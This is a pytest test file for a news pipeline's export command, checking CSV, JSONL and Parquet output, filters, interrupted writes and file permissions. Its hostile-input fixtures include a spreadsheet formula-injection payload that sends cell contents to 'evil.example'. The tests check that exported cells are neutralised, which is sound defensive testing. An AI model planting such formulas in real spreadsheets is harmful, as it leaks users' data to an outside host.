"""`news export`: what the views say is what the file says, in each format, whole or not at all."""

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import UUID

import psycopg
import pytest
from psycopg.rows import dict_row
from pyarrow import parquet

from ops import cells
from ops import database as looking
from ops import export as exporting
from ops.commands.common import safe_json
from ops.parquet import ParquetRows
from sinks import database, postgres
from sinks.export import VIEWS, Chosen
from tests.running import REPOSITORY, Outcome, clean_environment, run_news, until
from tests.sinks.samples import (
    Feed,
    article,
    body,
    decided,
    decision,
    delivery,
    enriched,
    enrichment,
    metadata,
    version,
)

pytestmark = pytest.mark.services

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    '+1;-1;"quoted", comma\r\nand\na line\ttab',
    "@SUM(A1) \u202eright to left\u2066 \u2028line \x85separators \x9b31m",
    " - minus, NULL, \\N, \\x00, {a,b}, null, None, 🜁 𝔘 é e\u0301",
    "'apostrophe",
)

Run = Callable[..., Outcome]


def hostile(number: int) -> str:
    return HOSTILE[number % len(HOSTILE)]


@pytest.fixture
def stored(database_url: str) -> str:
    """Six articles of two sources with hostile texts and names, one of them a copy, and a revision."""
    records: list[Any] = []
    feed = Feed()
    for n in range(1, 6):
        made = decision("new", place=n, of_article=n, text=n, observed=n, source="wire" if n % 2 else hostile(3))
        record = enriched(made, n, enrichment("Ada Lovelace", hostile(n).split("\r")[0]))
        text = body(n).model_copy(update={"text": hostile(n), "raw": hostile(n) + "\nSubscribe now"})
        said = metadata(n).model_copy(update={"title": hostile(n).split("\r")[0], "byline": None if n == 2 else ""})
        records += [
            decided(made, n).model_copy(update={"metadata": said}),
            record.model_copy(update={"metadata": said, "body": text}),
        ]
    copied = {"of": article(5), "of_version": version(5), "of_delivery": delivery(5), "method": "near", "score": 0.75}
    copy = decision("copy", place=6, of_article=6, text=6, observed=6, threshold=0.45, **copied)
    revision = decision("revision", place=7, of_article=1, text=7, observed=7)
    records += [decided(copy, 6, with_body=True), decided(revision, 7), enriched(revision, 7, enrichment())]
    connection = database.connect(database_url, 30)
    postgres.write_batch(connection, feed.incoming(*records))
    connection.close()
    return database_url


@pytest.fixture
def export(stored: str, tmp_path: Path) -> Run:
    def run(*arguments: str) -> Outcome:
        return run_news("export", *arguments, NEWS_DATA_DIR=str(tmp_path), NEWS_DATABASE__URL=stored)

    return run


def view(url: str, name: str) -> list[dict[str, Any]]:
    with psycopg.connect(url, row_factory=dict_row, options="-c timezone=UTC") as connection:
        return connection.execute(f"SELECT * FROM {name}").fetchall()  # type: ignore[arg-type]


def by_text(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return sorted(rows, key=lambda row: json.dumps(row, default=str, sort_keys=True))


def written(url: str, what: str, file: Path, rows_of: Callable[..., exporting.Rows]) -> None:
    with looking.connect_as_reader(url) as reader, exporting.opened(str(file)) as stream:
        exporting.write(reader, VIEWS[what], Chosen(), stream, rows_of, lambda _: None)


@pytest.mark.parametrize("what", sorted(VIEWS))
def test_an_export_says_what_the_view_says(what: str, stored: str, tmp_path: Path) -> None:
    rows = view(stored, VIEWS[what].view)
    assert rows

    written(stored, what, tmp_path / "csv", lambda out, columns, _: exporting.CsvRows(out, columns, cells.csv_cell))
    written(stored, what, tmp_path / "jsonl", lambda out, columns, _: exporting.JsonRows(out, columns, safe_json))
    written(stored, what, tmp_path / "parquet", ParquetRows)

    with (tmp_path / "csv").open(newline="", encoding="utf-8") as stream:
        from_csv = list(csv.DictReader(stream))
    from_json = [json.loads(line) for line in (tmp_path / "jsonl").read_text("utf-8").splitlines()]
    from_parquet = parquet.read_table(tmp_path / "parquet").to_pylist()
    assert by_text(from_csv) == by_text([{k: cells.csv_cell(v) for k, v in row.items()} for row in rows])
    assert by_text(from_json) == by_text([json.loads(cells.json_line(row)) for row in rows])
    assert by_text(from_parquet) == by_text([{k: in_parquet(k, v) for k, v in row.items()} for row in rows])


def in_parquet(column: str, value: Any) -> Any:
    is_json = column in ("enclosures", "removed", "targets", "models", "evidence")
    return cells.csv_cell(value) if value is not None and (is_json or isinstance(value, UUID)) else value


def test_parquet_has_the_types_of_the_columns(export: Run, tmp_path: Path) -> None:
    assert export("articles", "-o", str(tmp_path / "a.parquet")).status == 0

    file = parquet.ParquetFile(tmp_path / "a.parquet")
    types = {field.name: str(field.type) for field in file.schema_arrow}
    assert {name: types[name] for name in ("article_id", "title", "first_seen_at", "sentiment_score", "versions",
                                           "categories", "enclosures", "raw_partition")} == {
        "article_id": "string",
        "title": "string",
        "first_seen_at": "timestamp[us, tz=UTC]",
        "sentiment_score": "double",
        "versions": "int64",
        "categories": "list<element: string>",
        "enclosures": "string",
        "raw_partition": "int32",
    }  # fmt: skip
    assert file.metadata.metadata[b"news.last_change"] == b"7"


def test_rows_are_chosen_by_source_language_and_time(export: Run) -> None:
    wire = export("articles", "--source", "wire", "--format", "jsonl").rows()
    early = export("articles", "--until", "2026-03-01T12:03Z", "-f", "jsonl").rows()
    names = export("article-entities", "--source", "wire", "--since", "2026-03-01T12:05", "-f", "jsonl").rows()
    none = export("mentions", "--language", "nb", "-f", "jsonl")

    assert {row["article_id"] for row in wire} == {str(article(n)) for n in (1, 3, 5, 6)}
    assert {row["article_id"] for row in early} == {str(article(n)) for n in (1, 2)}
    assert {row["article_id"] for row in names} == {str(article(n)) for n in (5, 6)}
    assert (none.status, none.out) == (0, "")


def test_changes_come_in_their_order(export: Run) -> None:
    assert [row["change"] for row in export("changes", "-f", "jsonl").rows()] == [1, 2, 3, 4, 5, 6, 7]


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_an_empty_export_has_its_columns_all_the_same(form: str, export: Run, tmp_path: Path) -> None:
    outcome = export("copies", "--source", "nobody", "-o", str(tmp_path / "none"), "-f", form)

    assert outcome.status == 0
    written = (tmp_path / "none").read_bytes()
    if form == "csv":
        assert written.startswith(b"article_id,version_id,copy_of,")
        assert written.endswith(b"delay_seconds\r\n")
    elif form == "jsonl":
        assert written == b""
    else:
        table = parquet.read_table(tmp_path / "none")
        assert (table.num_rows, table.column_names[:3]) == (0, ["article_id", "version_id", "copy_of"])


def test_nothing_is_a_formula_in_a_spreadsheet(export: Run, tmp_path: Path) -> None:
    assert export("articles", "--spreadsheet", "-o", str(tmp_path / "a.csv")).status == 0

    written = (tmp_path / "a.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert written.startswith(b"\xef\xbb\xbfarticle_id,")
    assert "' - minus, NULL, \\N, \\x00, {a,b}, null, None, 🜁 𝔘 é e\u0301" in {row["text"] for row in rows}
    said = [row[name] for row in rows for name in ("source", "title", "text", "raw")]
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in said)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("a;=1+1", "a;'=1+1"),
        ("a\n-b", "a\n'-b"),
        ("＝1", "'＝1"),
        ("-5", "-5"),
        ("-5 degrees", "'-5 degrees"),
        ("a - b", "a - b"),
        (-0.25, "-0.25"),
        (None, ""),
        (True, "true"),
        (["-a"], '["-a"]'),
        (datetime(2026, 3, 1, 12, tzinfo=UTC), "2026-03-01T12:00:00Z"),
        ("x" * 40_000, "x" * 32_766 + "…"),
    ],
)
def test_a_cell_of_a_spreadsheet_is_no_formula(value: object, cell: str) -> None:
    assert cells.spreadsheet_cell(value) == cell


def test_stdout_is_a_pipe_for_each_format(export: Run, stored: str, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "ops", "export", "articles", "--format", "parquet"]
    variables = clean_environment(NEWS_DATA_DIR=str(tmp_path), NEWS_DATABASE__URL=stored)
    done = subprocess.run(command, cwd=REPOSITORY, env=variables, capture_output=True, check=True)

    assert parquet.read_table(io.BytesIO(done.stdout)).num_rows == 6
    assert export("articles").out.startswith("article_id,version_id,")


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("entities", "--since", "7d"), "no rows to be chosen by --since"),
        (("changes", "--source", "wire"), "no rows to be chosen by --source"),
        (("articles", "--since", "yesterday"), "--since is a date or a time"),
        (("articles", "--spreadsheet", "-f", "jsonl"), "--spreadsheet is about CSV"),
        (("articles", "-o", "/"), "--out / cannot be written: it is a folder"),
        (("articles", "-o", "/nowhere/a.csv"), "cannot be written: No such file or directory"),
        (("nothing",), "nothing"),
    ],
)
def test_what_cannot_be_exported_is_said(arguments: tuple[str, ...], said: str, export: Run) -> None:
    outcome = export(*arguments)

    assert outcome.status == 2
    assert said in outcome.err.replace("\n", " ")


def test_without_pyarrow_it_is_said_how_to_get_it(stored: str, tmp_path: Path) -> None:
    (tmp_path / "pyarrow.py").write_text("raise ImportError")
    variables = {"NEWS_DATA_DIR": str(tmp_path), "NEWS_DATABASE__URL": stored, "PYTHONPATH": str(tmp_path)}
    outcome = run_news("export", "articles", "-o", str(tmp_path / "a.parquet"), **variables)

    assert outcome.status == 2
    assert "pip install 'news-pipeline[parquet]'" in outcome.err.replace("\n", " ")
    assert not (tmp_path / "a.parquet").exists()


@pytest.mark.parametrize(("number", "status"), [(signal.SIGINT, 130), (signal.SIGTERM, 130)])
def test_an_interrupted_export_leaves_the_file_that_was_there(
    number: signal.Signals, status: int, stored: str, tmp_path: Path
) -> None:
    file = tmp_path / "out" / "a.csv"
    file.parent.mkdir()
    file.write_text("as it was")
    with psycopg.connect(stored) as blocking:
        blocking.execute("LOCK TABLE ingest.versions")  # it waits in the midst of its query
        child = subprocess.Popen(
            [sys.executable, "-m", "ops", "export", "articles", "-o", str(file)],
            cwd=REPOSITORY,
            env=clean_environment(NEWS_DATA_DIR=str(tmp_path), NEWS_DATABASE__URL=stored),
            stderr=subprocess.PIPE,
        )
        until("it has begun to write", lambda: len(list(file.parent.iterdir())) == 2)
        waits = "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock'"
        with psycopg.connect(stored, autocommit=True) as asking:
            until("it waits", lambda: (asking.execute(waits).fetchone() or (0,))[0])
        os.kill(child.pid, number)
        child.communicate(timeout=60)

    assert child.returncode == status
    assert [(entry.name, entry.read_text()) for entry in file.parent.iterdir()] == [("a.csv", "as it was")]


def test_a_link_stays_one_and_a_device_is_written_to(export: Run, tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")

    assert export("articles", "-o", str(tmp_path / "link.csv")).status == 0
    assert export("articles", "-o", os.devnull).status == 0

    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text("utf-8").startswith("article_id,")
    assert not Path(os.devnull).is_file()


def test_a_file_that_is_replaced_keeps_its_mode_and_is_never_more_open(tmp_path: Path) -> None:
    private, shared, new = tmp_path / "private.csv", tmp_path / "shared.csv", tmp_path / "new.csv"
    umask = os.umask(0o022)
    try:
        for file, mode in ((private, 0o600), (shared, 0o664)):
            file.touch()
            file.chmod(mode)
        for file in (private, shared, new):
            with exporting.opened(str(file)) as stream:
                begun = stat.S_IMODE(os.fstat(stream.fileno()).st_mode)
                stream.write(b"rows")
            assert stat.S_IMODE(file.stat().st_mode) == begun
    finally:
        os.umask(umask)

    modes = [stat.S_IMODE(file.stat().st_mode) for file in (private, shared, new)]
    assert modes == [0o600, 0o664, 0o644]
    assert private.read_bytes() == b"rows"


def test_notebooks_read_it(export: Run, tmp_path: Path) -> None:
    import duckdb
    import pandas as pd

    for what in ("articles", "article-entities"):
        assert export(what, "-o", str(tmp_path / f"{what}.parquet")).status == 0

    frame = pd.read_parquet(tmp_path / "articles.parquet")
    assert str(frame["first_seen_at"].dtype) == "datetime64[us, UTC]"
    assert sorted(frame["article_id"]) == [str(article(n)) for n in range(1, 7)]
    found = duckdb.sql(
        f"SELECT count(*) FROM '{tmp_path}/articles.parquet' AS a "
        f"JOIN '{tmp_path}/article-entities.parquet' AS e USING (article_id) WHERE e.name = 'Ada Lovelace'"
    ).fetchall()
    assert found == [(5,)]
